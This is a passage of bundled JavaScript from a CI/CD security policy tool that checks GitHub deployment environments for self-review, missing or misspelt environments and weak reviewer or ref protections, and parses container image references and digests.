                        : 'observing, nothing can be denied: no rule of this policy denies at this stage',
                ]
                : []),
        ];
    }
    return [...results.flatMap(errorReason), ...results.flatMap(violationReason), ...results.flatMap(unknownReason)];
}
function errorReason({ rule, outcome, reason }) {
    return outcome === 'error' ? [`${rule}: ${reason}`] : [];
}
function violationReason({ rule, findings, omitted }) {
    const denied = findings.filter(({ enforcement, exception }) => enforcement === 'deny' && exception === undefined);
    const [first] = denied;
    if (first === undefined)
        return [];
    const others = denied.length - 1 + sum(omitted.map((one) => one.denied));
    const more = others > 0 ? ` (and ${others} more)` : '';
    return [`${rule}: ${first.message}${more}`];
}
function unknownReason({ rule, outcome, gaps, unknownEnforcement }) {
    const [first] = gaps;
    if (outcome === 'error' || unknownEnforcement !== 'deny' || first === undefined)
        return [];
    const more = gaps.length > 1 ? ` (and ${gaps.length - 1} more)` : '';
    return [`${rule} could not be decided: ${(0,gap_item/* gapItem */.c)(first)}: ${first.why}${more}`];
}
function noticesOf({ policy, isOffline }, { counts, results }, isPartial) {
    const notices = [];
    if (policy.isAbsent)
        notices.push(`There is no policy file, so \`preset:${policy.preset}\` is in force`);
    const unjudged = (0,unjudged_keys/* unjudgedNotice */.X)(policy);
    if (unjudged !== undefined)
        notices.push(unjudged);
    if (isPartial)
        notices.push(partialText(results));
    notices.push(...results.flatMap(omittedText));
    if (counts.old > 0)
        notices.push(oldText(counts.old));
    if (isOffline)
        notices.push('Offline: nothing is asked of the platform, and what only it knows denies nothing');
    return notices;
}
function partialText(results) {
    const asked = results.filter(({ rule }) => !(0,is_about_gate/* isAboutGate */.P)(rule)).map(({ rule, enforcement }) => `${rule} (${enforcement})`);
    return `Only what was asked for was judged, and the verdict is about that alone: ${asked.length === 0 ? 'nothing that is on at this stage' : asked.join(', ')}`;
}
function omittedText({ rule, omitted }) {
    const [first] = omitted;
    if (first === undefined)
        return [];
    const more = sum(omitted.map(({ findings }) => findings));
    const places = omitted.length === 1 ? first.place : (0,plural/* plural */.L)(omitted.length, 'file');
    return [
        `${(0,plural/* plural */.L)(more, 'more finding')} of ${rule} in ${places} ${more === 1 ? 'is' : 'are'} counted and not listed: of one file the ${findingsLimit} that weigh most are`,
    ];
}
function sum(numbers) {
    return numbers.reduce((a, b) => a + b, 0);
}
function oldText(count) {
    const [was, does] = count === 1 ? ['was', 'does'] : ['were', 'do'];
    return `${(0,plural/* plural */.L)(count, 'finding')} ${was} there before this change and ${does} not count`;
}

;// CONCATENATED MODULE: ./build/src/report/root-notices.js
const rotations = new Map([['github', 5]]);
function rootNotices(roots, now) {
    return roots.flatMap((root) => {
        const { name, source, sha256, refresh } = root;
        if (refresh.state === 'done')
            return [`The trust root ${name} was refreshed from ${source} (sha256:${sha256})`];
        const failed = refresh.state === 'failed' ? [failedText(root, refresh)] : [];
        return [...failed, ...(refresh.state === 'same' ? [] : ageNotice(root, now))];
    });
}
function failedText({ name, date, sha256 }, { mirror, why }) {
    return `The trust root ${name} could not be refreshed from ${mirror} (${why}), so signatures were judged under the embedded one of ${date} (sha256:${sha256})`;
}
function ageNotice({ name, date, newestAuthority }, now) {
    const months = rotations.get(name);
    if (months === undefined || newestAuthority === undefined || now < monthsAfter(newestAuthority, months))
        return [];
    const since = newestAuthority.slice(0, 10);
    return [
        `The newest authority of the embedded trust root ${name} (of ${date}) is of ${since}, more than ${months} months ago: what a newer one signs is refused as certificate-untrusted. Update Interlock`,
    ];
}
function monthsAfter(time, months) {
    const date = new Date(time);
    date.setUTCMonth(date.getUTCMonth() + months);
    return date.toISOString();
}

;// CONCATENATED MODULE: ./build/src/report/to-decision.js



function toDecision({ question, stage, mode, plan, facts, recorded, judged, isPartial, judgement, telemetry, roots, }) {
    const { isObserving: _isObserving, ...decided } = judgement;
    return {
        schema: 'interlock.decision/v1',
        ...decided,
        stage: question.stage,
        whyStage: stage.why,
        mode,
        ...recorded,
        tool: { name: tool/* toolName */.U, version: tool/* toolVersion */.f },
        policy: { layers: question.policy.layers, isAbsent: question.policy.isAbsent },
        decidedAt: question.now,
        repository: question.repository === undefined ? undefined : `${question.repository.owner}/${question.repository.name}`,
        commit: question.commit,
        base: question.base,
        event: question.event,
        environment: question.environment,
        run: runOf(question),
        facts: plan.facts.flatMap((name) => to_decision_factOf(name, facts.get(name))),
        judged,
        isPartial,
        reasons: reasonsOf(judgement, isPartial),
        notices: [...noticesOf(question, judgement, isPartial), ...rootNotices(roots, question.now)],
        telemetry,
    };
}
function runOf({ run }) {
    if (run === undefined)
        return undefined;
    const { id, attempt, workflowRef, job, actor, triggeringActor } = run;
    return { id, attempt, workflowRef, job, actor, triggeringActor };
}
function to_decision_factOf(name, fact) {
    if (fact === undefined)
        return [];
    return [{ name, source: fact.state === 'known' ? fact.source : fact.reason, state: fact.state }];
}

;// CONCATENATED MODULE: ./build/src/judge.js






const judge = async ({ inputs, sources, stage, policy, question, plan }, judges) => {
    const { collectors, world, hash } = judges;
    const rules = withJudgements(plan, judges.rules);
    const { facts, outcomes, judged } = await judgeRoots({ rules, facts: plan.facts, collectors, question, sources, world, hash });
    const mode = (0,loosening_attempts/* modeInForce */.S)(inputs, policy);
    const isOffline = bindsNobody(inputs, world);
    const judgement = decide(rules, outcomes, { stage: stage.stage, mode, exceptions: policy.exceptions, now: question.now, isOffline });
    const isPartial = inputs.rules.length > 0;
    const recorded = recordedOf(facts, await evidenceOf(facts, question));
    const roots = world.verifier?.roots() ?? [];
    return toDecision({ question, stage, mode, plan, facts, recorded, judged, isPartial, judgement, roots, telemetry: judges.telemetry() });
};
async function evidenceOf(facts, { subjects, policy, now }) {
    if (subjects.length === 0)
        return () => [];
    const evidence = await __webpack_require__.e(7164).then(__webpack_require__.bind(__webpack_require__, 97164));
    return evidence.evidenceIn(facts, policy, now);
}
function bindsNobody({ launcher, isOffline }, { platform }) {
    return launcher === 'cli' && (isOffline || platform === undefined);
}
function withJudgements(plan, rules) {
    return plan.rules.map(({ rule: head, ...settings }) => {
        const rule = rules.find(({ meta }) => meta.id === head.meta.id);
        if (rule === undefined)
            throw new errors/* InterlockError */.sv('INTERNAL', `the rule '${head.meta.id}' is planned and does not exist`);
        return { ...settings, rule };
    });
}

// EXTERNAL MODULE: ./build/src/core/environment-rule.js
var environment_rule = __webpack_require__(69883);
// EXTERNAL MODULE: ./build/src/rules/define-rule.js
var define_rule = __webpack_require__(88101);
;// CONCATENATED MODULE: ./build/src/rules/support/is-production-like.js
function isProductionLike(name) {
    return /^(?:prod|release|live$)|publish/i.test(name);
}

// EXTERNAL MODULE: ./build/src/rules/support/used-environments.js
var used_environments = __webpack_require__(60423);
;// CONCATENATED MODULE: ./build/src/rules/approval/self-review-allowed.js






const uses = { items: [{ environment: 'production', job: 'deploy', isReached: false, isRecorded: true }], gaps: [] };
const lax = { name: 'production', reviewers: [{ kind: 'team', slug: 'release', id: 7 }], isSelfReviewPrevented: false };
/* harmony default export */ const self_review_allowed = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'approval/self-review-allowed',
        title: 'Whoever starts a run cannot approve it',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'deploy'],
        presets: { recommended: 'deny', strict: 'deny' },
        advice: { recommended: 'warn', strict: 'deny' },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'deny' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI8:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-05' },
            { framework: 'NIST-CSF', id: 'ID.RA-07' },
            { framework: 'NIST-800-207', id: 'T6' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-1' },
            { framework: 'SLSA', id: 'Source L4' },
        ],
        rationale: 'A required reviewer is a second pair of eyes only where it is a second person. As long as the environment does not prevent self-review, a reviewer who pushes, starts the run and approves it releases alone, and so does whoever took over that one account.',
        remediation: 'Turn on "Prevent self-review" in the settings of environment `{environment}`. Where one person may release alone, write `self-review: allowed` for it in the policy.',
        messages: {
            configured: 'Environment `{environment}` lets whoever started a run approve it, and the policy forbids that. Turn on "Prevent self-review" in its settings',
            allowed: 'Environment `{environment}` has required reviewers and lets whoever started a run be one. Turn on "Prevent self-review" in its settings',
        },
        examples: [
            {
                title: 'The policy forbids self-review, and the environment does not',
                files: {},
                facts: {
                    environmentUses: uses,
                    policy: { environments: [{ pattern: 'prod*', selfReview: 'forbidden' }] },
                    environments: { items: [lax], gaps: [] },
                },
                expect: [{ message: 'configured' }],
            },
            {
                title: 'The platform prevents it',
                files: {},
                facts: { environmentUses: uses, environments: { items: [{ ...lax, isSelfReviewPrevented: true }], gaps: [] } },
                expect: [],
            },
        ],
        options: {},
        key: ['environment'],
    },
    needs: ['environmentUses', 'policy'],
    wants: ['environments'],
    evaluate({ environmentUses, policy, environments }) {
        const used = (0,used_environments/* usedEnvironments */.A0)(environmentUses.items);
        if (used.length === 0)
            return (0,finding/* notApplicable */.hH)('no job names an environment');
        if (environments.state === 'unknown')
            return [(0,core_facts/* gapOfUnknown */.uI)('environments', environments)];
        const { items, gaps } = environments.value;
        const found = used.flatMap((one) => {
            const environment = items.find(({ name }) => (0,used_environments/* isSameEnvironment */.gj)(name, one.name));
            if (environment === undefined || environment.reviewers.length === 0 || environment.isSelfReviewPrevented)
                return [];
            return self_review_allowed_judge(one, environment, (0,environment_rule/* environmentTermsOf */.y)(policy.environments, environment.name)) ?? [];
        });
        return [...gaps, ...found];
    },
}));
function self_review_allowed_judge(used, environment, terms) {
    const { name } = environment;
    const found = { kind: 'violation', data: { environment: name }, location: (0,used_environments/* settingsOf */.f5)(environment), related: (0,used_environments/* namedAt */.Fp)(used) };
    if (terms?.selfReview === 'forbidden')
        return { ...found, message: 'configured' };
    if (terms?.selfReview === 'allowed')
        return undefined;
    const isMeant = (terms?.reviewers ?? 0) > 0 || isProductionLike(name);
    return isMeant ? { ...found, message: 'allowed', isAdvice: true } : undefined;
}

// EXTERNAL MODULE: ./build/src/core/nearest.js
var nearest = __webpack_require__(22007);
;// CONCATENATED MODULE: ./build/src/rules/approval/unknown-environment.js





const unknown_environment_uses = { items: [{ environment: 'prodution', job: 'deploy', isReached: false, isRecorded: true }], gaps: [] };
/* harmony default export */ const unknown_environment = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'approval/unknown-environment',
        title: 'Every environment that a job names exists',
        severity: 'high',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: { posture: 'warn', merge: 'warn', deploy: 'deny' }, strict: 'deny' },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'deny' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI8:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-05' },
            { framework: 'NIST-CSF', id: 'PR.PS-01' },
            { framework: 'NIST-800-207', id: 'T6' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-1' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-7' },
        ],
        rationale: 'The platform makes an environment that does not exist at the moment a job names it: without reviewers, without a ref policy. So a misspelt name, or one that a change makes up, deploys past everything that protects the environment that was meant, and whoever may push can do it.',
        remediation: 'Correct the name, or make environment `{environment}` in the settings, with its reviewers and its ref policy, before a job names it.',
        messages: {
            missing: 'Job `{job}` names environment `{environment}`, which does not exist: it would be made without any protection. {suggestion}Make it in the settings first',
            created: 'Job `{job}` stands in environment `{environment}`, which is not among those of the repository. {suggestion}Make it in the settings first',
        },
        examples: [
            {
                title: 'A misspelt name',
                files: {},
                facts: { environmentUses: unknown_environment_uses, environments: { items: [{ name: 'production' }], gaps: [] } },
                expect: [{ message: 'missing' }],
            },
            {
                title: 'Letter case does not matter to the platform',
                files: {},
                facts: {
                    environmentUses: { items: [{ ...unknown_environment_uses.items[0], environment: 'Production' }], gaps: [] },
                    environments: { items: [{ name: 'production' }], gaps: [] },
                },
                expect: [],
            },
        ],
        options: {},
        key: ['environment', 'job'],
    },
    needs: ['environmentUses'],
    wants: ['environments'],
    evaluate({ environmentUses, environments }) {
        if (environmentUses.items.length === 0)
            return (0,finding/* notApplicable */.hH)('no job names an environment');
        if (environments.state === 'unknown')
            return [(0,core_facts/* gapOfUnknown */.uI)('environments', environments)];
        const { items, gaps } = environments.value;
        const missing = environmentUses.items.filter((use) => !items.some(({ name }) => (0,used_environments/* isSameEnvironment */.gj)(name, use.environment)));
        return gaps.length > 0 ? gaps : missing.map((use) => missingUse(use, items));
    },
}));
function missingUse({ environment, job, location, isReached }, existing) {
    const near = (0,nearest/* nearest */.p)(environment, existing.map(({ name }) => name));
    return {
        kind: 'violation',
        message: isReached ? 'created' : 'missing',
        data: { environment, job, suggestion: near === undefined ? '' : `Did you mean \`${near}\`? ` },
        location: location ?? { object: 'environment', name: environment },
    };
}

// EXTERNAL MODULE: ./build/src/rules/support/each-gap-once.js
var each_gap_once = __webpack_require__(48935);
// EXTERNAL MODULE: ./build/src/core/within-glob.js
var within_glob = __webpack_require__(81149);
;// CONCATENATED MODULE: ./build/src/rules/support/ref-policy.js


function flawsOfRefs(refs, allowed, defaultBranch) {
    switch (refs.kind) {
        case 'unasked':
            return [{ kind: 'unread' }];
        case 'any':
            return [{ kind: 'any-ref' }];
        case 'protected-branches':
            if (refs.branches.length === 0)
                return [{ kind: 'no-protected-branch' }];
            return allowed === undefined ? [] : foreign(refs.branches.map(refOfBranch), allowed);
        case 'patterns':
            if (allowed !== undefined)
                return foreign(refs.patterns.map(refOf), allowed);
            return refs.patterns.flatMap((pattern) => openFlaw(pattern, defaultBranch) ?? []);
    }
}
function foreign(refs, allowed) {
    return refs.filter((ref) => !allowed.some((one) => (0,within_glob/* isWithinGlob */.m)(ref, one))).map((ref) => ({ kind: 'foreign-ref', ref }));
}
function openFlaw(pattern, defaultBranch) {
    if (pattern.type === 'tag' || (0,glob/* isGlob */.fg)(pattern.pattern))
        return { kind: 'creatable-ref', ref: refOf(pattern) };
    return pattern.pattern === defaultBranch ? undefined : { kind: 'unknown-branch', branch: pattern.pattern };
}
function refOf({ type, pattern }) {
    return type === 'tag' ? `refs/tags/${pattern}` : refOfBranch(pattern);
}
function refOfBranch(branch) {
    return `refs/heads/${branch}`;
}

;// CONCATENATED MODULE: ./build/src/rules/approval/unprotected-environment.js








const guarded = {
    name: 'production',
    reviewers: [{ kind: 'team', slug: 'release', id: 7 }],
    isSelfReviewPrevented: true,
    waitMinutes: 0,
    customRules: [],
    refs: { kind: 'patterns', patterns: [{ type: 'branch', pattern: 'main' }] },
};
const unprotected_environment_uses = { items: [{ environment: 'production', job: 'deploy', isReached: false, isRecorded: true }], gaps: [] };
const unprotected_environment_policy = { environments: [{ pattern: 'prod*', reviewers: 1, refs: ['refs/heads/main'] }] };
/* harmony default export */ const unprotected_environment = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'approval/unprotected-environment',
        title: 'Environments are as protected as the policy says',
        severity: 'high',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'deploy'],
        presets: { recommended: 'deny', strict: 'deny' },
        advice: { recommended: 'warn', strict: 'deny' },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'deny' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI8:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-05' },
            { framework: 'NIST-CSF', id: 'PR.PS-01' },
            { framework: 'NIST-CSF', id: 'ID.RA-07' },
            { framework: 'NIST-800-207', id: 'T6' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-1' },
            { framework: 'SSDF', id: 'PO.5.1' },
        ],
        rationale: 'An environment holds the secrets and the cloud roles of a deployment, and its rules are what stands between them and whoever can push. With no reviewer nobody is asked. With a ref policy of "any", or a pattern such as `release/*`, a person with write access makes a branch with a workflow of their own and deploys from it. "Protected branches" with no protected branch means every branch. An App that decides as well is no person, and is not counted.',
        remediation: 'In the settings of environment `{environment}` add required reviewers, and let only the refs deploy that the policy lists. Required reviewers and wait timers of a private repository need GitHub Enterprise; without it write `approval: reviewed-pull-request` for the environment in the policy, which asks for the review of the deployed commit instead.',
        messages: {
            'few-reviewers': 'Environment `{environment}` has {found}, and the policy asks for {minimum}. Add people or teams as required reviewers',
            'any-ref': 'Environment `{environment}` lets every branch and tag deploy, so whoever can push can deploy. Select the branches and tags that may',
            'no-protected-branch': 'Environment `{environment}` lets protected branches deploy, and no branch is protected: then every branch may. Protect the release branch, or select it by name',
            'foreign-ref': 'Environment `{environment}` lets `{ref}` deploy, and the policy allows {allowed} only. Remove it there, or add it to `refs`',
            'creatable-ref': 'Environment `{environment}` lets `{ref}` deploy, and whoever can write can create such a ref. Select exact branches, or name it under `refs` in the policy',
            unrecorded: 'Job `{job}` uses environment `{environment}` with `deployment: false`, so what it deploys is on no record. Remove `deployment: false`',
            open: 'Environment `{environment}` has no reviewer, no rule of an App and no ref policy: whoever can push deploys to it. Protect it, and write what it must have under `environments` in the policy',
        },
        examples: [
            {
                title: 'The policy asks for a reviewer and one branch, and the environment has neither',
                files: {},
                facts: {
                    environmentUses: unprotected_environment_uses,
                    policy: unprotected_environment_policy,
                    environments: { items: [{ ...guarded, reviewers: [], refs: { kind: 'any' } }], gaps: [] },
                },
                expect: [{ message: 'few-reviewers' }, { message: 'any-ref' }],
            },
            {
                title: 'Nothing is configured, and the name speaks for itself',
                files: {},
                facts: {
                    environmentUses: unprotected_environment_uses,
                    environments: { items: [{ ...guarded, reviewers: [], refs: { kind: 'any' } }], gaps: [] },
                },
                expect: [{ message: 'open' }],
            },
            {
                title: 'Reviewers, and the listed branch alone',
                files: {},
                facts: { environmentUses: unprotected_environment_uses, policy: unprotected_environment_policy, environments: { items: [guarded], gaps: [] } },
                expect: [],
            },
        ],
        options: {},
        key: ['environment', 'ref', 'job'],
    },
    needs: ['environmentUses', 'policy'],
    wants: ['environments', 'repository'],
    evaluate({ environmentUses, policy, environments, repository }) {
        const used = (0,used_environments/* usedEnvironments */.A0)(environmentUses.items);
        if (used.length === 0)
            return (0,finding/* notApplicable */.hH)('no job names an environment');
        if (environments.state === 'unknown')
            return [(0,core_facts/* gapOfUnknown */.uI)('environments', environments)];
        const { items, gaps } = environments.value;
        const judged = used.flatMap((one) => {
            const environment = items.find(({ name }) => (0,used_environments/* isSameEnvironment */.gj)(name, one.name));
            return environment === undefined ? [] : unprotected_environment_judge(one, environment, { policy, repository, gaps });
        });
        return (0,each_gap_once/* eachGapOnce */.P)([...gaps, ...judged]);
    },
}));
function unprotected_environment_judge(used, environment, given) {
    const { policy } = given;
    const terms = (0,environment_rule/* environmentTermsOf */.y)(policy.environments, environment.name);
    const byTerms = terms === undefined ? [] : [...ofReviewers(used, environment, terms), ...ofRefs(used, environment, terms, given), ...ofRecords(used)];
    return [...byTerms, ...(terms === undefined ? ofName(used, environment) : [])];
}
function ofName(used, environment) {
    const { name, reviewers, customRules, refs } = environment;
    const admitsAll = refs.kind === 'any' || (refs.kind === 'protected-branches' && refs.branches.length === 0);
    const isOpen = reviewers.length === 0 && customRules.length === 0 && admitsAll;
    if (!isOpen || !isProductionLike(name))
        return [];
    return [{ ...about(used, environment), message: 'open', data: { environment: name }, isAdvice: true }];
}
function ofReviewers(used, environment, { reviewers: minimum = 0, approval }) {
    const count = environment.reviewers.length;
    if (approval === 'reviewed-pull-request' || count >= minimum)
        return [];
    const found = count === 0 ? 'no required reviewer' : `${count} required reviewer${count === 1 ? '' : 's'}`;
    const data = { environment: environment.name, found, minimum: String(minimum) };
    return [{ ...about(used, environment), message: 'few-reviewers', data }];
}
function ofRefs(used, environment, terms, { repository, gaps }) {
    const { name, refs } = environment;
    const defaultBranch = repository.state === 'known' ? repository.value.defaultBranch : undefined;
    const allowed = terms.refs?.map((ref) => `\`${ref}\``).join(', ') ?? '';
    return flawsOfRefs(refs, terms.refs, defaultBranch).flatMap((flaw) => {
        if (flaw.kind === 'unread')
            return gaps.some(({ item }) => item === name) ? [] : unprotected_environment_unreadGap(name);
        if (flaw.kind === 'unknown-branch')
            return branchGap(name, flaw.branch, repository);
        return { ...about(used, environment), message: flaw.kind, data: { environment: name, ref: unprotected_environment_refOf(flaw), allowed } };
    });
}
function unprotected_environment_refOf(flaw) {
    return 'ref' in flaw ? flaw.ref : '';
}
function unprotected_environment_unreadGap(environment) {
    return (0,core_facts/* gap */.rQ)({
        item: `environment ${environment}`,
        cause: 'empty',
        why: 'which refs may deploy there was not answered',
        remedy: 'start a new run',
    });
}
function branchGap(environment, branch, repository) {
    if (repository.state === 'unknown')
        return (0,core_facts/* gapOfUnknown */.uI)('repository', repository);
    return (0,core_facts/* gap */.rQ)({
        item: `environment ${environment}`,
        cause: 'unresolvable',
        why: `it lets branch ${branch} deploy, and who may push to that branch is not to be seen here`,
        remedy: `let only ${repository.value.defaultBranch} deploy, or name refs/heads/${branch} under \`refs\` of the environment in the policy`,
    });
}
function ofRecords(used) {
    const location = (use) => use.location ?? (0,used_environments/* placeOf */.$t)(used);
    return used.uses
        .filter(({ isRecorded }) => !isRecorded)
        .map((use) => ({ kind: 'violation', message: 'unrecorded', data: { environment: used.name, job: use.job }, location: location(use) }));
}
function about(used, environment) {
    return { kind: 'violation', location: (0,used_environments/* settingsOf */.f5)(environment), related: (0,used_environments/* namedAt */.Fp)(used) };
}

;// CONCATENATED MODULE: ./build/src/artifact/image-reference.js
const nameLimit = 255;
const tagLimit = 128;
const textLimit = nameLimit + 1 + tagLimit + 1 + 'sha512:'.length + 128;
const digestLengths = { sha256: 64, sha384: 96, sha512: 128 };
const hubNames = new Set(['docker.io', 'index.docker.io']);
function readImage(text) {
    if (text.length > textLimit)
        return refused(`it has ${text.length} characters, more than a reference can have`);
    const at = text.indexOf('@');
    const digest = at === -1 ? undefined : text.slice(at + 1);
    if (digest !== undefined && !isDigest(digest))
        return refused('what stands behind its `@` is no sha256, sha384 or sha512 digest');
    const named = at === -1 ? text : text.slice(0, at);
    const colon = tagColon(named);
    const tag = colon === -1 ? undefined : named.slice(colon + 1);
    if (tag !== undefined && !/^\w[\w.-]{0,127}$/.test(tag))
        return refused('what stands behind its last `:` is no tag');
    const name = readName(colon === -1 ? named : named.slice(0, colon));
    return typeof name === 'string' ? refused(name) : { state: 'image', image: { ...name, tag, digest } };
}
function imageName({ registry, repository }) {
    return `${registry}/${repository}`;
}
function isDigest(text) {
    const [, algorithm = '', hex = ''] = /^([a-z0-9]+):([0-9a-f]+)$/.exec(text) ?? [];
    return Object.hasOwn(digestLengths, algorithm) && digestLengths[algorithm] === hex.length;
}
function tagColon(named) {
    const colon = named.lastIndexOf(':');
    return colon > named.lastIndexOf('/') ? colon : -1;
}
function readName(name) {
    if (name.length > nameLimit)
        return `its name has ${name.length} characters, more than ${nameLimit}`;
    if (/^[0-9a-f]{64}$/.test(name))
        return 'it is the id of an image, not a name';
    const slash = name.indexOf('/');
    const hasDomain = slash !== -1 && isDomainLike(name.slice(0, slash));
    const domain = hasDomain ? name.slice(0, slash).toLowerCase() : 'docker.io';
    const path = hasDomain ? name.slice(slash + 1) : name;
    if (!isDomain(domain))
        return 'what stands before its first `/` is no host';
    if (!path.split('/').every(isComponent))
        return 'its name holds what no repository has: only a-z, 0-9 and single `.`, `_`, `__`, `-` between them';
    const registry = hubNames.has(domain) ? 'docker.io' : domain;
    return { registry, repository: registry === 'docker.io' && !path.includes('/') ? `library/${path}` : path };
}
function isDomainLike(first) {
    return /[.:]/.test(first) || first === 'localhost' || first !== first.toLowerCase();
}
function isDomain(text) {
    const host = text.replace(/:[0-9]{1,5}$/, '');
    if (/^\[[0-9a-f:.]{2,45}\]$/.test(host))
        return true;
    return host.split('.').every((part) => /^[a-z0-9](?:[a-z0-9-]*[a-z0-9])?$/.test(part));
}
function isComponent(text) {
    return /^[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*$/.test(text);
}
function refused(why) {
    return { state: 'refused', why };
}

;// CONCATENATED MODULE: ./build/src/workflow/image-text.js

const holeMark = '\0';
const digestOutput = /^(?:steps|needs)\..{1,200}(?:^|[._-])digests?$/i;
function markedImage(parts) {
    const text = parts.map((part) => (part.kind === 'text' ? part.text.replaceAll(holeMark, '?') : holeMark)).join('');
    return text.trim().replace(/^(?:docker|oci):\/\/(?:\/)?/i, '');
}
function pinOf(parts) {
    const marked = markedImage(parts);
    if (!marked.includes(holeMark))
        return pinOfWritten(marked);
    const at = marked.indexOf('@');
    if (at !== -1)
        return isDigestWithHole(marked.slice(at + 1)) ? 'digest' : 'invalid';
    const [hole] = parts.filter(({ kind }) => kind === 'hole');
    if (marked === holeMark)
        return hole?.kind === 'hole' && digestOutput.test(hole.name) ? 'digest' : 'open';
    if (tagColon(marked) !== -1)
        return 'tag';
    return marked.endsWith(holeMark) ? 'open' : 'none';
}
function pinOfWritten(text) {
    const read = readImage(text);
    if (read.state === 'refused')
        return 'invalid';
    if (read.image.digest !== undefined)
        return 'digest';
    return read.image.tag === undefined ? 'none' : 'tag';
}
function isDigestWithHole(text) {
    return text.includes(holeMark) ? /^[\0a-z0-9:]+$/.test(text) : isDigest(text);
}
function writtenDigest(parts) {
    const digest = markedImage(parts).split('@')[1];
    return digest !== undefined && isDigest(digest) ? digest : undefined;
}

;// CONCATENATED MODULE: ./build/src/rules/support/gate-use.js


const gateWorkflow = '.github/workflows/gate.yml';
function gateTest(scene, named, actions) {
    const isOwn = scene.gate === undefined || scene.gate.toLowerCase() === scene.repository?.toLowerCase();
    const own = actions.filter(({ file, name }) => isRootAction(file.path, file.root) && name?.value.trim().toLowerCase() === 'interlock');
    return { gate: scene.gate?.toLowerCase(), named, ownRoots: new Set(isOwn ? own.map(({ file }) => file.root) : []) };
}
function isGateStep(step, root, test) {
    return step.kind === 'uses' && isGate(step.uses.target, '', root, test);
}
function isGateCall(target, root, test) {
    return isGate(target, gateWorkflow, root, test);
}
function gate_use_calleeOf(target, root, workflows) {
    if (target.kind !== 'local' && target.kind !== 'self')
        return undefined;
    const path = [root, (0,local_path/* localPath */.$)(target.path)].filter((part) => part !== '').join('/');
    return workflows.find(({ file }) => file.path === path);
}
function isGate(target, path, root, test) {
    if (target.kind === 'local' || target.kind === 'self') {
        return test.ownRoots.has(root) && (0,local_path/* localPath */.$)(target.path) === path;
    }
    if (target.kind !== 'repository')
        return false;
    const slug = `${target.owner}/${target.name}`.toLowerCase();
    const full = target.path === '' ? slug : `${slug}/${target.path.toLowerCase()}`;
    if (test.named.some((pattern) => pattern.length <= glob/* patternLimit */.An && isNamed(pattern.toLowerCase(), slug, full)))
        return true;
    const isRepository = test.gate === undefined ? target.name.toLowerCase() === 'interlock' : slug === test.gate;
    return isRepository && target.path === path;
}
function isNamed(pattern, slug, full) {
    return (0,glob/* matchesGlob */.kt)(pattern, slug) || (0,glob/* matchesGlob */.kt)(pattern, full);
}
function isRootAction(path, root) {
    const relative = root === '' ? path : path.slice(root.length + 1);
    return relative === 'action.yml' || relative === 'action.yaml';
}

;// CONCATENATED MODULE: ./build/src/rules/support/image-uses.js


function imageUses(workflows, actions, manifests) {
    const direct = deployedIn(workflows, actions).images.map((image) => ({
        deploy: image,
        written: shownImage(image.written),
        readings: image.readings,
        hasName: image.hasName,
        hasVersion: image.hasVersion,
        location: (0,locate/* locate */.x5)(image.file, image.span),
        deployedAt: undefined,
    }));
    const inFiles = manifests.map(({ written, readings, location, use }) => ({
        deploy: use,
        written: shownImage(written),
        readings,
        hasName: true,
        hasVersion: true,
        location,
        deployedAt: (0,locate/* locate */.x5)(use.file, use.span),
    }));
    return [...direct, ...inFiles].filter(({ readings }) => readings.some((parts) => parts.length > 0));
}
const longest = 300;
function shownImage(text) {
    return text.replace(/^((?:[a-z+]{1,20}:\/\/)?)[^/@]{0,500}@(?!sha\d|[$`])(?=[^/]{1,300}\/)/i, '$1***@').slice(0, longest);
}
function groupedUses(uses) {
    const groups = new Map();
    for (const use of uses) {
        const key = JSON.stringify([use.location.path, use.written]);
        const group = groups.get(key);
        if (group === undefined)
            groups.set(key, { first: use, others: [] });
        else if (!isSamePlace(group.first, use) && !group.others.some((one) => isSamePlace(one, use)))
            group.others.push(use);
    }
    return [...groups.values()];
}
function isSamePlace({ location: a }, { location: b }) {
    return a.start.line === b.start.line && a.start.column === b.start.column;
}

;// CONCATENATED MODULE: ./build/src/rules/support/verified-artifacts.js




function verifiedBefore(step, job, workflow, test) {
    const { root } = workflow.file;
    const steps = [...(0,walk/* flatten */.Bq)(job.steps)];
    const own = steps.slice(0, Math.max(0, steps.indexOf(step))).filter((one) => isGateStep(one, root, test));
    const needed = neededJobs(job, workflow).flatMap((one) => {
        if (one.kind === 'call')
            return isGateCall(one.uses.target, root, test) ? [[...one.with]] : [];
        return [...(0,walk/* flatten */.Bq)(one.steps)].flatMap((inner) => (isGateStep(inner, root, test) ? [[...inner.with]] : []));
    });
    const found = [
        ...own.toReversed().map((one) => artifactsOf(one.with, one.id?.value)),
        ...needed.map((inputs) => artifactsOf(inputs, undefined)),
    ].filter((one) => one !== undefined);
    const [nearest] = found;
    if (nearest === undefined)
        return undefined;
    return {
        ...nearest,
        digests: new Set(found.flatMap(({ digests }) => [...digests])),
        isOpen: found.some(({ isOpen }) => isOpen),
        images: found.flatMap(({ images }) => images),
        files: found.flatMap(({ files }) => files),
    };
}
function artifactsOf(inputs, id) {
    const input = (0,workflow_callers/* valueOf */.RP)(inputs, 'artifacts');
    if (input?.kind !== 'scalar' || input.value.trim() === '')
        return undefined;
    const lines = input.value
        .split('\n')
        .map((line) => line.trim())
        .filter((line) => line !== '');
    const images = lines.filter((line) => /^(?:oci:|sha\d+:)/i.test(line));
    const open = lines.filter((line) => line.includes('${{'));
    const digests = images.map((line) => line.slice(line.lastIndexOf('@') + 1)).filter(isDigest);
    const files = lines.filter((line) => !images.includes(line) && !open.includes(line));
